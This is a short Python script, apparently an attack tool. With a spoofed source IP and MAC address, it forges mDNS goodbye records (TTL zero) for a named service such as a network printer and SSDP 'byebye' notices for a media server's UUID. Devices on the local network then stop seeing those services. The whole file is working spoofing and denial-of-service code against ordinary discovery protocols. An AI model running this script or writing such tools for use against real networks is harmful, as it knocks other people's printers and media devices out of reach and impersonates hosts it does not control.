"""Says goodbye for others: python3 false-farewell.py SOURCE_ADDRESS SOURCE_MAC INSTANCE TYPE UUID: by mDNS for an instance ("Kitchen Printer", "_ipp._tcp"), and
by SSDP for a media server."""

import struct
import sys

from frames import send, send_ssdp

address, mac, instance, kind, uuid = sys.argv[1:]


def name(*labels):
    return b"".join(bytes([len(label)]) + label for label in (one.encode() for one in labels)) + b"\0"


def gone(owner, of_type, data):
    return owner + struct.pack("!HHIH", of_type, 1, 0, len(data)) + data


service = name(*kind.split("."), "local")
full = name(instance, *kind.split("."), "local")
target = struct.pack("!HHH", 0, 0, 631) + name("kitchen", "local")
records = [gone(service, 12, full), gone(full, 33, target), gone(full, 16, b"\0")]
header = struct.pack("!HHHHHH", 0, 0x8400, 0, len(records), 0, 0)
send(address, mac, "224.0.0.251", 5353, 255, header + b"".join(records))
for what in ("upnp:rootdevice", "urn:schemas-upnp-org:device:MediaServer:1"):
    usn = f"USN: uuid:{uuid}::{what}"
    send_ssdp(address, mac, "NOTIFY * HTTP/1.1", "HOST: 239.255.255.250:1900", f"NT: {what}", "NTS: ssdp:byebye", usn)
print("sent", flush=True)
